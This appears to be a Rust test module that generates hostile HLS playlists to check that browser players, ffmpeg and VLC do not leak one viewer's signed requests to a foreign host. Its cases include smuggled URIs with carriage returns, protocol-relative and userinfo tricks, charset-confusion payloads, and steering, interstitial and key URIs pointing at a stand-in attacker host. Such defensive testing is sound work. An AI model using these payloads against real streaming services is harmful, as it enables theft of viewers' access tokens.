//! Attacks by an uploader's playlists, in browsers' players, ffmpeg and VLC.

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::time::Instant;

use serde_json::json;
use testkit::attacks::{self, Attack, AttackSite, media, multivariant};
use testkit::root;

use super::{Case, HLS, Stage, steering};

/// Attacks for players, one or a few of each kind. `tests/readings.rs` has all.
pub(super) fn cases(site: &AttackSite<'_>) -> Vec<Case> {
    let AttackSite { evil, others, .. } = *site;
    let host = evil.trim_start_matches("http://");
    let plain = multivariant("");
    let is_wanted = |attack: &Attack| {
        let name = &attack.name;
        let essay = format!("{{$h}}{others}/essay.mp4");
        let variable = name.ends_with(&format!("{evil:?} in {essay}"))
            || name.ends_with(&format!("{evil:?} for an import"))
            || name == &format!("VALUE {evil:?} in a Variant Stream")
            || name == &format!("VALUE {evil:?} in %7B$h%7D{others}/essay.mp4")
            || name == &format!("by another variable \"{{$i}}\" in {essay}");
        let list = name.starts_with("#EXT-X-")
            && (name.contains("\"x,") || name.contains("z=\"") || name.contains("=\","))
            && name.contains(evil)
            && !name.contains("PART")
            && !name.contains("REPORT");
        let uri = ["the line", "MAP:", "MEDIA"]
            .iter()
            .any(|start| name.starts_with(start))
            && [
                format!("{:?}", format!("{others}/essay.mp4?\r{evil}/?")),
                format!("{:?}", format!("{others}/essay.mp4?\u{2028}{evil}/?")),
                format!("{:?}", format!("\\\\{host}{others}/essay.mp4")),
                format!("{:?}", format!("//{host}{others}/essay.mp4")),
                format!("{:?}", format!("/\t/{host}{others}/essay.mp4")),
                format!("{:?}", format!(".//{host}{others}/essay.mp4")),
                format!("{:?}", format!("{}@{host}{others}/essay.mp4", site.origin)),
            ]
            .iter()
            .any(|uri| name.ends_with(uri.as_str()));
        name.starts_with("QUERYPARAM of token")
            || name.starts_with("QUERYPARAM of p ")
            || name.starts_with("QUERYPARAM of h ")
            || name.starts_with("UTF-16LE around essay")
            || variable
            || list
            || uri
    };
    let mut cases: Vec<Case> = attacks::attacks(site)
        .into_iter()
        .filter(is_wanted)
        .map(Case::of)
        .collect();

    // Content Steering.
    let steered = |server: &str| {
        multivariant(&format!(
            "#EXT-X-CONTENT-STEERING:SERVER-URI=\"{server}\",PATHWAY-ID=\".\"\n\
             #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\",PATHWAY-ID=\".\"\n\
             {others}/master.m3u8"
        ))
    };
    let data = format!("data:application/json,{}", steering().replace('"', "%22"));
    cases.extend([
        Case::new(
            "steering by a foreign server",
            &steered(&format!("{evil}/s.json")),
            &media(""),
        ),
        Case::new(
            "steering by an own manifest",
            &steered("steer.json"),
            &media(""),
        )
        .with("steer.json", "application/json", steering()),
        Case::new("steering by data", &steered(&data), &media("")),
        Case::new(
            "steering by a variable",
            &steered("{$s}").replacen(
                '\n',
                &format!("\n#EXT-X-DEFINE:NAME=\"s\",VALUE=\"{evil}/s.json\"\n"),
                1,
            ),
            &media(""),
        ),
    ]);

    // Interstitials.
    let range = |attribute: &str| {
        media(&format!(
            "#EXT-X-DATERANGE:ID=\"i\",CLASS=\"com.apple.hls.interstitial\",CUE=\"PRE\",\
             START-DATE=\"2026-01-01T00:00:00Z\",DURATION=4,{attribute}"
        ))
    };
    let list = json!({ "ASSETS": [
        { "URI": format!("{others}/master.m3u8"), "DURATION": 4 },
        { "URI": format!("{evil}/x.m3u8"), "DURATION": 4 },
        { "URI": "s.m3u8", "DURATION": 4 },
    ]});
    cases.extend([
        Case::new(
            "a foreign asset",
            &plain,
            &range(&format!("X-ASSET-URI=\"{evil}/x.m3u8\"")),
        ),
        Case::new(
            "another user's asset",
            &plain,
            &range(&format!("X-ASSET-URI=\"{others}/master.m3u8\"")),
        ),
        Case::new(
            "an own list of others' assets",
            &plain,
            &range("X-ASSET-LIST=\"a.json\""),
        )
        .with("a.json", "application/json", list.to_string()),
        Case::new(
            "a foreign list of assets",
            &plain,
            &range(&format!("X-ASSET-LIST=\"{evil}/a.json\"")),
        ),
    ]);

    // Session data, keys, hints and reports.
    for (name, lines) in [
        (
            "chapters",
            format!(
                "#EXT-X-SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",URI=\"{others}/a.json\""
            ),
        ),
        (
            "foreign chapters",
            format!("#EXT-X-SESSION-DATA:DATA-ID=\"com.apple.hls.chapters\",URI=\"{evil}/a.json\""),
        ),
        (
            "a session key",
            format!("#EXT-X-SESSION-KEY:METHOD=AES-128,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a foreign session key",
            format!("#EXT-X-SESSION-KEY:METHOD=AES-128,URI=\"{evil}/key\""),
        ),
        (
            "another user's audio",
            format!(
                "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",DEFAULT=YES,AUTOSELECT=YES,URI=\"{others}/a.m3u8\"\n#EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e,mp4a.40.2\",AUDIO=\"a\"\ns.m3u8"
            ),
        ),
    ] {
        cases.push(Case::new(name, &multivariant(&lines), &media("")));
    }
    for (name, line) in [
        (
            "a hint",
            format!("#EXT-X-PRELOAD-HINT:TYPE=PART,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a hint of an initialization section",
            format!("#EXT-X-PRELOAD-HINT:TYPE=MAP,URI=\"{others}/essay.mp4\""),
        ),
        (
            "a report",
            format!("#EXT-X-RENDITION-REPORT:URI=\"{others}/a.m3u8\",LAST-MSN=1"),
        ),
        (
            "a part",
            format!(
                "#EXT-X-PART-INF:PART-TARGET=1\n#EXT-X-PART:DURATION=1,URI=\"{others}/essay.mp4\""
            ),
        ),
        (
            "a segment",
            format!("#EXTINF:4,\n{others}/v/1/720p/seg00000.m4s"),
        ),
        (
            "an initialization section",
            format!("#EXT-X-MAP:URI=\"{others}/essay.mp4\""),
        ),
        (
            "a key",
            format!("#EXT-X-KEY:METHOD=AES-128,URI=\"{others}/essay.mp4\""),
        ),
    ] {
        cases.push(Case::new(name, &plain, &media(&line)));
    }

    // Content types that players decode by, and names that contradict the bytes.
    let wide = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let head = format!("#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{evil}/?");
    let mut in_utf16 = wide(&head);
    in_utf16.extend_from_slice(format!("\n\n{others}/essay2.mp4\n").as_bytes());
    in_utf16.extend(wide("\n#EXT-X-ENDLIST\n"));
    let mut case = Case::new("UTF-16 by the content type", &plain, "")
        .typed("s.m3u8", &format!("{HLS}; charset=utf-16le"));
    case.files[1].2 = in_utf16;
    cases.push(case);
    cases.push(
        Case::new(
            "ISO-2022-JP by the content type",
            &multivariant(&format!(
                "#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"n\",DEFAULT=YES,\
                 URI=\"{evil}/?a=\u{1b}$B\",Z=\u{1b}(B,URI=\"{others}/master.m3u8\"\n\
                 #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e,mp4a.40.2\",AUDIO=\"a\"\ns.m3u8"
            )),
            &media(""),
        )
        .typed("p.m3u8", &format!("{HLS}; charset=iso-2022-jp")),
    );
    cases.extend(attacks_from_folder(site));
    cases
}

/// Attacks from a folder of files, if it exists.
fn attacks_from_folder(site: &AttackSite<'_>) -> Vec<Case> {
    let folder = std::env::var_os("LECTERN_ATTACKS")
        .map_or_else(|| root().join("../shared/attacks"), Into::into);
    let Ok(entries) = fs::read_dir(&folder) else {
        // `println!` is visible only if a test fails.
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED: {} is not there (set LECTERN_ATTACKS)",
            folder.display()
        );
        return Vec::new();
    };
    let host = site.evil.trim_start_matches("http://");
    let text = |path: &Path| {
        let text = fs::read_to_string(path).ok()?;
        Some(
            text.replace("https://127.0.0.1:8898", site.evil)
                .replace("127.0.0.2:28811", host),
        )
    };
    let mut names: Vec<_> = entries
        .map(|entry| entry.expect("an entry").path())
        .collect();
    names.sort();
    names
        .iter()
        .filter(|path| path.to_string_lossy().ends_with("-master.m3u8"))
        .map(|path| {
            let other = path.to_string_lossy().replace("-master", "-media");
            let name = path.file_name().expect("a name").to_string_lossy();
            let multivariant = text(path).expect("a playlist");
            let media = text(Path::new(&other)).unwrap_or_else(|| media(""));
            Case::new(&name, &multivariant, &media)
        })
        .collect()
}

#[test]
fn no_player_shows_another_host_what_the_edge_gave_its_viewer() {
    let stage = Stage::new(cases);
    let mut plays = Vec::new();
    for (name, path) in &stage.opened {
        // The page is hls.js with its own policy.
        let is_for_page = ["QUERYPARAM of token", "UTF-16", "leak", "steering"]
            .iter()
            .any(|start| name.starts_with(start));
        for player in ["hlsjs", "shaka", "native", "page"] {
            if player == "page" && !is_for_page {
                continue;
            }
            let link = stage.link(&format!("{player}: {name}"), path, &json!({}));
            plays.push((
                format!("{player}: {name}"),
                json!({ "player": player, "link": link }),
            ));
        }
    }
    let began = Instant::now();
    let (sent, asked) = stage.play(&plays);
    let foreign = stage.foreign.seen();
    let _ = writeln!(
        std::io::stderr(),
        "{} attacks in four players in {:.0} s; requests to the edge and to others: {asked:?}; \
         the foreign host saw {}",
        stage.opened.len(),
        began.elapsed().as_secs_f64(),
        foreign.len()
    );
    let mut failed = stage.judge(sent);
    failed.extend(
        stage.judge(
            foreign
                .into_iter()
                .map(|sent| ("the foreign host saw".to_owned(), sent)),
        ),
    );
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
    // The page's policy blocks every foreign request. The other players send them.
    for player in ["hlsjs", "shaka"] {
        assert!(asked[player].1 >= 10, "{asked:?}");
    }
}

#[test]
fn neither_ffmpeg_nor_vlc_shows_another_host_what_the_edge_gave_its_viewer() {
    let stage = Stage::new(|site| {
        let wanted = |name: &str| {
            [
                "QUERYPARAM of token in a",
                "leak",
                "steering by an own",
                "UTF-16LE around essay2",
                "the line",
                "a segment",
            ]
            .iter()
            .any(|start| name.starts_with(start))
        };
        let mut cases = cases(site);
        cases.retain(|case| wanted(&case.name));
        cases
    });
    let foreign = stage.play_without_scripts();
    let failed = stage.judge(foreign.into_iter().map(|sent| (String::new(), sent)));
    assert!(
        failed.is_empty(),
        "{} requests:\n{}",
        failed.len(),
        failed.join("\n")
    );
}
